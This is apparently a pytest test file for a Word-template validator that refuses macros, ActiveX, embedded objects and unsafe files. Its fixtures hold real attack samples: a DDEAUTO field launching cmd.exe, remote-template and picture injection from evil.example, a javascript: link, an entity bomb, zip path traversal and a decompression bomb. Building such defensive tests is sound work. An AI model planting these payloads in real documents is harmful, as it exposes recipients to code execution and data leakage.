"""A client's Word template: what is taken, what is refused, and what to do about it."""

from __future__ import annotations

import io
import zipfile
from pathlib import Path

import pytest

from sopgen.assets import AssetError, opc
from sopgen.assets.word_template import WordTemplate, word_template
from tests.word_templates import OFFICE, WORD, field, packed, paragraph, parts, relations, text, xml

Parts = dict[str, str | bytes]


def read(data: bytes) -> WordTemplate:
    return word_template("client.dotx", data)


@pytest.mark.parametrize("kind", ["docx", "dotx"])
def test_both_kinds_without_macros_are_taken(kind: str) -> None:
    template = read(packed(parts(kind=kind)))
    assert template.main == "word/document.xml"


def typed(made: Parts, name: str, type_: str) -> Parts:
    types = str(made["[Content_Types].xml"])
    row = f'<Override PartName="/{name}" ContentType="{type_}"/></Types>'
    return made | {"[Content_Types].xml": types.replace("</Types>", row)}


def main_of(type_: str) -> Parts:
    made = parts(kind="docx")
    types = str(made["[Content_Types].xml"]).replace(f"{WORD}document.main+xml", type_)
    return made | {"[Content_Types].xml": types}


def related(name: str, *rows: tuple[str, str, str], outside: tuple[str, ...] = ()) -> Parts:
    """The template with relationships added to one of its parts."""
    made = parts()
    path = f"word/_rels/{name}.xml.rels"
    old = str(made.get(path) or relations())
    new = relations(*rows, outside=outside).partition(">")[2]
    return made | {path: old.replace("</Relationships>", new)}


def entity() -> Parts:
    made = parts()
    styles = str(made["word/styles.xml"])
    bomb = '<!DOCTYPE w [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]>'
    return made | {"word/styles.xml": styles.replace("?>\n", f"?>\n{bomb}")}


def without(*names: str) -> Parts:
    return {name: data for name, data in parts().items() if name not in names}


_SPLIT = (
    '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> INCLUDE</w:instrText></w:r>'
    '<w:r><w:instrText>TEXT "c:\\\\secret.docx" </w:instrText></w:r>'
    '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
)
_NAMELESS = (
    '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
    + field("QUOTE 68 68 69", "DDE")
    + "<w:r><w:instrText> c:\\\\windows\\\\calc.exe </w:instrText></w:r>"
    '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
)
HOSTILE: dict[str, tuple[Parts, str, str]] = {
    "macros by type": (
        main_of("application/vnd.ms-word.document.macroEnabled.main+xml"),
        "it has macros",
        "without macros",
    ),
    "macros by type of template": (
        main_of("application/vnd.ms-word.template.macroEnabledTemplate.main+xml"),
        "it has macros",
        "without macros",
    ),
    "macros by part": (parts() | {"word/vbaProject.bin": b"x"}, "it has macros", "without macros"),
    "ActiveX": (parts() | {"word/activeX/activeX1.xml": "<x/>"}, "ActiveX", "Developer tab"),
    "control in header": (
        parts(header=paragraph("<w:r><w:control/></w:r>")),
        "ActiveX",
        "delete the control",
    ),
    "embedded object": (
        parts(header=paragraph('<w:r><w:object><o:OLEObject Type="Embed"/></w:object></w:r>')),
        "a header (`word/header1.xml`): an embedded object",
        "as a picture",
    ),
    "object by relationship": (
        related("header1", ("o", "package", "media/image1.png")),
        "an object of another program (package)",
        "as a picture",
    ),
    "other file put in": (
        parts(body='<w:altChunk r:id="x"/>'),
        "its text (`word/document.xml`): another file is put in",
        "as text",
    ),
    "remote picture": (
        related("header1", ("p", "image", "https://evil.example/p.png"), outside=("p",)),
        "loads a file from `https://evil.example/p.png` (a picture)",
        "break that link",
    ),
    "remote picture of old Word": (
        parts(header=paragraph('<w:r><w:pict><v:imagedata src="http://evil.example/p"/></w:pict></w:r>')),
        "loads a picture from `http://evil.example/p`",
        "paste the picture",
    ),
    "picture in text": (
        related("document", ("p", "image", "https://evil.example/p.png"), outside=("p",)),
        "its text (`word/document.xml`) loads a file",
        "break that link",
    ),
    "template from the web": (
        related("settings", ("t", "attachedTemplate", "https://evil.example/t.dotm"), outside=("t",)),
        "when it is opened (the template it is based on)",
        "Document Template",
    ),
    "template from a share": (
        related("settings", ("t", "attachedTemplate", "file:///\\\\evil\\share\\t.dotm"), outside=("t",)),
        "when it is opened",
        "Document Template",
    ),
    "link to a script": (
        related("footer1", ("l", "hyperlink", "javascript:alert(1)"), outside=("l",)),
        "a footer (`word/footer1.xml`) links to `javascript:alert(1)`",
        "remove the link",
    ),
    "field in pieces": (parts(header=paragraph(_SPLIT)), "a field `INCLUDETEXT`", "Ctrl+Shift+F9"),
    "field of unknown name": (parts(header=paragraph(_NAMELESS)), "a field without a name", "Ctrl+Shift+F9"),
    "field for a picture": (
        parts(footer=paragraph('<w:fldSimple w:instr=" INCLUDEPICTURE http://evil.example "/>')),
        "a footer (`word/footer1.xml`): a field `INCLUDEPICTURE`",
        "Ctrl+Shift+F9",
    ),
    "link of a field": (
        parts(header=paragraph(field('HYPERLINK "file://evil/share"', "x"))),
        'a field `HYPERLINK "file://evil/share"`',
        "Ctrl+Shift+F9",
    ),
    "macro of a form field": (
        parts(
            header=paragraph(
                '<w:r><w:fldChar w:fldCharType="begin"><w:ffData><w:entryMacro w:val="Go"/></w:ffData>'
                "</w:fldChar></w:r>"
            )
        ),
        "a form field there starts a macro",
        "delete the macro's name",
    ),
    "DDE in text": (
        parts(body=paragraph(field('DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"', "x"))),
        "a field `DDE`",
        "Ctrl+Shift+F9",
    ),
    "entities": (entity(), "`word/styles.xml` declares entities", "save it once more"),
    "deep": (parts(header="<w:p>" * 300 + "</w:p>" * 300), "nested too deeply", "save it once more"),
    "broken XML": (
        parts() | {"word/styles.xml": "<w:styles"},
        "`word/styles.xml` is damaged",
        "save it once more",
    ),
    "no styles": (
        parts() | {"word/_rels/document.xml.rels": relations(("h", "header", "header1.xml"))},
        "it has no styles",
        "save it once more",
    ),
    "no main part": (
        without("word/document.xml"),
        "names `word/document.xml`, which is not in the file",
        "save",
    ),
    "no picture": (without("word/media/image1.png"), "names `word/media/image1.png`", "save it once more"),
    "no list": (without("_rels/.rels"), "nothing in it is the main document", "save it once more"),
    "workbook": (
        main_of("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"),
        "no Word document",
        ".docx or .dotx",
    ),
    "strict": (
        parts()
        | {
            "_rels/.rels": str(parts()["_rels/.rels"]).replace(
                OFFICE, "http://purl.oclc.org/ooxml/officeDocument/relationships"
            )
        },
        "Strict Open XML",
        "without `Strict`",
    ),
    "OpenDocument": (
        {"mimetype": "application/vnd.oasis.opendocument.text"},
        "OpenDocument",
        "save it as .docx",
    ),
    "archive": ({"a.txt": "a"}, "an archive", ".docx or .dotx"),
    "name that leads out": (parts() | {"../../evil.xml": "<x/>"}, "leads out of it", "save it once more"),
    "absolute name": (parts() | {"/evil.xml": "<x/>"}, "leads out of it", "save it once more"),
    "name twice": (parts() | {"WORD/styles.xml": "<x/>"}, "is in it twice", "save it once more"),
    "bomb": (
        parts() | {"word/media/big.bin": b"\0" * 21_000_000},
        "`word/media/big.bin` grows",
        "Compress Pictures",
    ),
    "too many parts": (
        parts() | {f"x/{n}.xml": "" for n in range(opc.MAX_ENTRIES)},
        "more than 1000 parts",
        "remove what",
    ),
}


@pytest.mark.parametrize("name", HOSTILE)
def test_a_hostile_or_broken_template_is_refused_with_its_reason(name: str) -> None:
    made, reason, mend = HOSTILE[name]
    with pytest.raises(AssetError) as caught:
        read(packed(made))
    assert str(caught.value).startswith("`client.dotx` cannot be used: ")
    assert reason in str(caught.value)
    assert mend in caught.value.mend


@pytest.mark.parametrize(
    ("data", "reason"),
    [
        (b"", "it is no Word document"),
        (b"hello", "it is no Word document"),
        (b"{\\rtf1}", "it is an RTF file"),
        (b"%PDF-1.7", "it is a PDF"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 100, "Word 97 to 2003"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + "EncryptedPackage".encode("utf-16-le"), "with a password"),
        (packed(parts())[:900], "it is damaged"),
        (packed(parts())[:-400], "it is damaged"),
    ],
)
def test_what_is_no_docx_is_called_what_it_is(data: bytes, reason: str) -> None:
    with pytest.raises(AssetError, match=reason):
        read(data)


def test_an_encrypted_entry_is_refused() -> None:
    data = bytearray(packed({"[Content_Types].xml": "<Types/>"}))
    at = data.index(b"PK\x01\x02")
    data[at + 8] |= 1
    with pytest.raises(AssetError, match="with a password"):
        read(bytes(data))


def test_a_part_that_says_it_is_small_is_read_no_further_than_the_limit() -> None:
    data = packed({"[Content_Types].xml": b" " * 9_000_000})
    for mark, place in ((b"PK\x01\x02", 24), (b"PK\x03\x04", 22)):
        at = data.index(mark) + place
        data = data[:at] + (10).to_bytes(4, "little") + data[at + 4 :]
    with pytest.raises(AssetError, match="cannot be used: it"):
        read(data)


def test_what_does_no_harm_is_let_through() -> None:
    """A template on its author's disk, links to the web, and what stands in the text, which goes nowhere."""
    harmless = (
        related("settings", ("t", "attachedTemplate", "file:///C:\\Users\\me\\Normal.dotm"), outside=("t",)),
        related("footer1", ("l", "hyperlink", "https://client.example/"), outside=("l",)),
        parts(body=paragraph(field("INCLUDEPICTURE http://client.example/x", "x"))),
        parts(
            header=paragraph(
                field("STYLEREF 1", "x") + field("PAGE", "1") + text("of") + field("= 1 + 1", "2")
            )
        ),
        related("document", ("w", "oleObject", "media/image1.png")),
        parts(
            header=paragraph(
                field('HYPERLINK "https://client.example"', "x") + field("HYPERLINK \\l top", "y")
            )
        ),
        parts() | {"word/glossary/document.xml": xml("glossaryDocument", "")},
    )
    for made in harmless:
        assert read(packed(made)).path == "client.dotx"


def test_a_zip_of_a_folder_has_entries_for_folders() -> None:
    buffer = io.BytesIO(packed(parts()))
    with zipfile.ZipFile(buffer, "a") as archive:
        archive.writestr("word/", b"")
    assert read(buffer.getvalue()).data == buffer.getvalue()


def test_a_type_given_to_a_part_of_any_name_counts() -> None:
    made = typed(parts(), "word/x.bin", "application/vnd.ms-office.vbaProject") | {"word/x.bin": b"x"}
    with pytest.raises(AssetError, match="it has macros"):
        read(packed(made))


@pytest.mark.parametrize(
    ("name", "made"),
    [
        ("client.dotx", parts()),
        ("macros.dotm", main_of("application/vnd.ms-word.template.macroEnabledTemplate.main+xml")),
    ],
)
def test_the_files_of_the_rules_cases_are_those_made_here(name: str, made: Parts) -> None:
    """They can be read nowhere else: `tests/word_templates.py` says what is in them."""
    case = Path(__file__).parents[2] / "data" / "rules" / "base" / name
    with zipfile.ZipFile(case) as archive:
        kept = {entry: archive.read(entry) for entry in archive.namelist()}
    assert kept == {part: data.encode() if isinstance(data, str) else data for part, data in made.items()}


def test_a_template_may_have_no_page_set_up() -> None:
    with_page, without_page = (read(packed(made)) for made in (parts(), parts(section="")))
    assert with_page.has_page
    assert not without_page.has_page
